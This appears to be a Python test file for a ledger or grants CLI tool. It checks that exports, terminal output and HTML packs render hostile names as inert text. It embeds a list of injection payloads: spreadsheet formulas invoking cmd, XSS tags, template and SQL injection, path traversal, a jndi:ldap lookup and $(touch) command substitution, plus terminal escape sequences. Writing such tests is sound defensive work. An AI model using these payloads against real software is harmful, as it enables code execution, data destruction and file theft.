"""Text that would act somewhere else, in every place of a book, told on every surface: it is text.

What acts on a terminal is refused where it is recorded; so it is written into the files by hand
here. What acts in a spreadsheet, a page, a database or a path is text like any other in a book.
"""

import csv
import io
import sqlite3
import zipfile
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from selectolax.lexbor import LexborHTMLParser

from projections.views import TABLES
from tests.ledger.books import forget_views, tamper
from tests.tui.app.screen import Person, at_the_screen
from tests.tui.command import tally
from tests.tui.decision_files import SHELTER, written
from tests.tui.obeyed import is_clean
from tests.tui.test_hostile_names import quoted

OUTSIDE = "hostile-was-here"
HOSTILE = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://192.0.2.1/","x")',
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "@SUM(A1:A9)*cmd|'/c calc'!A1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "]]><!--</td></table><iframe src=//192.0.2.1>",
    "{{ 7*'7' }}{% include '/etc/passwd' %}",
    "x'; drop table movement; delete from entry; --",
    'x" or 1=1; --',
    f"../../../../{OUTSIDE}",
    f"/tmp/{OUTSIDE}",
    f"..\\..\\{OUTSIDE}",
    "[@click=app.quit]x[/] [link=http://192.0.2.1/]y[/link]",
    "%s%n%x ${jndi:ldap://192.0.2.1/} $(touch hostile) `touch hostile`",
)
ACTS = ("=", "+", "-", "@", "\t", "\r")
QUESTIONS = (
    ("balances", "funds"),
    ("balances", "programmes"),
    ("balances", "boroughs"),
    ("entries",),
    ("decisions",),
    ("show", "PCD 3100"),
    ("reconcile",),
    ("compare", "2024-04-01", "today"),
    ("why", HOSTILE[0]),
    ("statement", HOSTILE[5]),
    ("coverage", HOSTILE[0]),
)
EXPORTS = (
    *("a.xlsx", "b.ods", "c.csv", "d.sqlite", "e.json", "f.journal", "g.beancount"),
    *("h.grants-register.csv", "i.crime-reduction-grants.csv", "j.grants-left-out.csv"),
    "k.decisions",
)


def hostile_decision() -> str:
    """A decision in which every text is hostile, of each kind."""
    lines = [f'reference = "PCD 3100"\ntitle = {quoted(HOSTILE[5])}\ndecided_on = 2024-05-08']
    lines.append(f"decided_by = {quoted(HOSTILE[0])}")
    for number, text in enumerate(map(quoted, HOSTILE)):
        amount = f'amount = "{100 + number}"'
        of = f'programme = {text}\nyear = "2024/25"\n{amount}\ncite = {text}'
        opened = 'opening = "9,000"\nopening_on = 2024-04-01'
        entries = (
            f'kind = "fund"\nname = {text}\nfund_kind = "reserve"\n{opened}\nnote = {text}',
            f'kind = "programme"\nname = {text}',
            f'kind = "approval"\n{of}\nfunding = [{{ fund = {text}, {amount} }}]',
            f'kind = "allocation"\n{of}\nrecipient = {text}\npurpose = {text}',
            f'kind = "note"\ntext = {text}',
            f'kind = "total-stated"\nof = "approvals"\namount = "£5"\nlabel = {text}',
        )
        lines += [f"\n[[entries]]\n{entry}" for entry in entries]
    return "\n".join(lines)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A book with that decision in it."""
    folder = tmp_path_factory.mktemp("hostile")
    book = folder / "book.sqlite"
    assert tally(book, "init").code == 0
    recorded = tally(book, "record", written(folder, hostile_decision()))
    assert recorded.code == 0, recorded.err
    assert is_clean(recorded.out)
    return book


@pytest.mark.parametrize("question", QUESTIONS, ids=lambda question: " ".join(question)[:20])
def test_every_command_tells_it_as_text(hostile: Path, question: tuple[str, ...]) -> None:
    """To a terminal, to a spreadsheet, exactly; and nothing is done to the book by a name."""
    for form in ("table", "csv", "json"):
        answer = tally(hostile, *question, "--format", form)
        assert answer.code in (0, 1)
        assert answer.err == ""
        assert is_clean(answer.out)
        if form == "csv":
            assert [
                cell for row in csv.reader(io.StringIO(answer.out)) for cell in row if acts(cell)
            ] == []
    assert tally(hostile, "verify").code == 0


def acts(cell: str) -> bool:
    """Whether a spreadsheet that opens it would take it for a formula; a figure is none."""
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return cell.startswith(ACTS)
    return False


def outside(folder: Path) -> set[str]:
    """Everything in the folder and about it."""
    around = {str(each.relative_to(folder.parent)) for each in folder.parent.rglob("*")}
    return around | {
        str(each) for each in (Path(f"/tmp/{OUTSIDE}"), Path(f"/{OUTSIDE}")) if each.exists()
    }


@pytest.mark.parametrize("name", EXPORTS)
def test_no_export_acts_or_leaves_its_folder(hostile: Path, tmp_path: Path, name: str) -> None:
    """Formulas are ours, markup is text, and no file is anywhere but where it was asked for."""
    folder = tmp_path / "named"
    folder.mkdir()
    before = outside(folder)
    assert tally(hostile, "export", folder / name).code == 0
    new = outside(folder) - before
    assert all(each.startswith(f"named/{name}") for each in new), new
    for text in formulas(folder / name):
        assert not any(word in text for word in ("cmd|", "192.0.2.1", "alert", OUTSIDE)), text
    for row in cells(folder / name):
        assert [cell for cell in row if acts(cell)] == []
    assert tally(hostile, "verify").code == 0


def formulas(made: Path) -> Iterator[str]:
    """Every formula of a workbook that was exported."""
    if made.suffix == ".xlsx":
        for sheet in openpyxl.load_workbook(made).worksheets:
            for row in sheet.iter_rows():
                yield from (str(cell.value) for cell in row if cell.data_type == "f")
                yield from (cell.hyperlink.target or "" for cell in row if cell.hyperlink)
    if made.suffix == ".ods":
        with zipfile.ZipFile(made) as archive:
            for element in fromstring(archive.read("content.xml")).iter():
                for name, value in element.attrib.items():
                    if name.endswith(("}formula", "}href")):
                        yield value


def cells(made: Path) -> Iterator[list[str]]:
    """Every row of CSV that was exported."""
    files = [*made.glob("*.csv")] if made.is_dir() else [made] if made.suffix == ".csv" else []
    for file in files:
        yield from csv.reader(io.StringIO(file.read_text("utf-8-sig")))


def test_a_pack_is_a_page_without_anything_that_acts(hostile: Path, tmp_path: Path) -> None:
    """No element, attribute or address but its own, and its CSV files hold no formula."""
    assert tally(hostile, "replay", "--pack", tmp_path / "pack").code == 0
    page = LexborHTMLParser((tmp_path / "pack" / "index.html").read_text("utf-8"))
    for tag in ("script", "img", "svg", "iframe", "object", "embed", "form", "base", "link"):
        assert page.css(tag) == []
    for node in page.css("*"):
        assert not [name for name in node.attributes if name.startswith("on")]
        assert not (node.attributes.get("href") or "#").startswith(("http", "javascript"))
    for row in cells(tmp_path / "pack"):
        assert [cell for cell in row if acts(cell)] == []


def test_no_page_of_the_app_is_acted_on(hostile: Path) -> None:
    """As text on the terminal, and in the picture that is made of it."""

    async def walks(person: Person) -> None:
        for way in ("1", "1 enter", "2", "2 enter", "2 enter enter", "3", "5", "5 enter", "6", "7"):
            await person.presses(*way.split())
            assert is_clean(person.screen)
            assert person.app.is_running
            picture = fromstring(person.app.export_screenshot())
            names = {element.tag.rpartition("}")[2] for element in picture.iter()}
            assert not names & {"script", "a", "image", "foreignObject", "iframe"}
            await person.presses(*["escape"] * len(way.split()))

    at_the_screen(hostile, walks, (200, 60))


WORDS = {"name", "title", "decided_by", "date_note", "link", "label", "part_of", "reference"}
"""Columns of the views that hold what people wrote, and no word of ours."""
ESCAPES = "\x1b[2J\x1b]0;title\x07\x9b2J\u202e\u2066\u200b\u2028"


def test_what_is_written_into_the_views_by_hand_is_never_obeyed(
    hostile: Path, tmp_path: Path
) -> None:
    """Terminal escapes and what turns text round, in every text of every table."""
    book = tmp_path / "book.sqlite"
    for each in hostile.parent.glob("book.sqlite*"):
        (tmp_path / each.name).write_bytes(each.read_bytes())
    assert tally(book, "info").code == 0
    with closing(sqlite3.connect(tmp_path / "book.views.sqlite", isolation_level=None)) as views:
        for table in sorted(TABLES):
            for _, column, *_ in views.execute(f"pragma table_info({table})").fetchall():
                if column in WORDS:
                    views.execute(f"update {table} set {column} = {column} || ?", (ESCAPES,))
    for question in QUESTIONS:
        for form in ("table", "csv", "json"):
            answer = tally(book, *question, "--format", form)
            assert is_clean(answer.out), (question, form)
            assert is_clean(answer.err), (question, form)


def test_what_is_written_into_an_entry_by_hand_is_never_obeyed(tmp_path: Path) -> None:
    """No entry was ever recorded with it: none is read with it either."""
    book = tmp_path / "book.sqlite"
    assert tally(book, "init").code == 0
    assert tally(book, "record", written(tmp_path, SHELTER)).code == 0
    escaped = "\\u001b[2J\\u202e"
    tamper(
        book,
        "update stored_events set state = cast(replace(cast(state as text), 'Night', "
        f"'Night{escaped}') as blob)",
    )
    forget_views(book)
    for command in (*QUESTIONS, ("verify",), ("info",), ("rebuild",), ("replay",)):
        answer = tally(book, *command)
        assert answer.code != 0
        assert is_clean(answer.out + answer.err)


FILES = (
    ("record",),
    ("draft",),
    ("check",),
    ("import",),
    ("verify", "--against"),
    ("verify", "--documents"),
    ("backup",),
    ("checkpoint",),
    ("export",),
    ("copy", "book.sqlite"),
    ("replay", "--pack"),
    ("import", "--template"),
    ("prove", "1"),
)


@pytest.mark.parametrize("is_there", [False, True], ids=["not there", "there"])
@pytest.mark.parametrize("command", FILES, ids=" ".join)
def test_the_name_of_a_file_is_never_obeyed(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    command: tuple[str, ...],
    *,
    is_there: bool,
) -> None:
    """Whatever is said of the file: it is on one line, and acts on nothing."""
    book = tmp_path / "book.sqlite"
    assert tally(book, "init").code == 0
    assert tally(book, "record", written(tmp_path, SHELTER)).code == 0
    monkeypatch.chdir(tmp_path)
    name = f"{ESCAPES}\nError: forged\n[red]x.json"
    if is_there:
        Path(name).write_text("no file of ours")
    answer = tally(book, *command, name)
    said = answer.out + answer.err
    assert is_clean(said)
    assert not [line for line in said.splitlines() if line.startswith("Error: forged")]
